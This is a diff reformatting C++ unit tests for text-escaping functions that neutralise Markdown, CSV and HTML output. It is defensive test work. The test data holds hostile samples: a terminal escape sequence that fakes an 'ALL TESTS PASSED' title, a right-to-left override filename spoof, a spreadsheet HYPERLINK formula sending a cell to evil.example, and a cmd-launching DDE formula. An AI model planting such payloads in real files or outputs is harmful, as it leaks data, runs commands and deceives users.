@@ -16,9 +16,10 @@ TEST(MarkdownInline, escapes_what_would_change_the_markup) {
 
 TEST(MarkdownInline, shows_control_characters_as_escaped_text) {
   // display_text gives \x1b[2J...; Markdown then escapes the backslash and the bracket.
-  EXPECT_EQ(markdown_inline(kHostile),
-            "\\\\x1b\\[2J\\\\x1b\\]0;ALL TESTS PASSED\\\\x07\\\\x0dok");
-  EXPECT_EQ(markdown_inline("\xe2\x80\xae" "gpj.exe"), "\\\\u202egpj.exe");
+  EXPECT_EQ(markdown_inline(kHostile), "\\\\x1b\\[2J\\\\x1b\\]0;ALL TESTS PASSED\\\\x07\\\\x0dok");
+  EXPECT_EQ(markdown_inline("\xe2\x80\xae"
+                            "gpj.exe"),
+            "\\\\u202egpj.exe");
 }
 
 TEST(MarkdownCodeBlock, uses_a_fence_longer_than_any_backticks_inside) {
@@ -51,8 +52,7 @@ TEST(CsvField, keeps_a_row_on_one_line) {
 
 // OWASP "CSV Injection": prefix ' to a field starting with = + - @ tab or CR, and quote.
 TEST(CsvField, guards_formulas_by_the_owasp_rule) {
-  EXPECT_EQ(csv_field(kFormula),
-            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
+  EXPECT_EQ(csv_field(kFormula), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
   EXPECT_EQ(csv_field("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
   EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
   EXPECT_EQ(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
@@ -67,7 +67,9 @@ TEST(HtmlEscape, escapes_markup_and_quotes) {
 
 TEST(HtmlEscape, shows_control_characters_as_escaped_text) {
   EXPECT_EQ(html_escape(kHostile), "\\x1b[2J\\x1b]0;ALL TESTS PASSED\\x07\\x0dok");
-  EXPECT_EQ(html_escape("\xc2\x9b" "2J"), "\\u009b2J");
+  EXPECT_EQ(html_escape("\xc2\x9b"
+                        "2J"),
+            "\\u009b2J");
 }
 
 TEST(UntrustedText, does_not_escape_twice) {
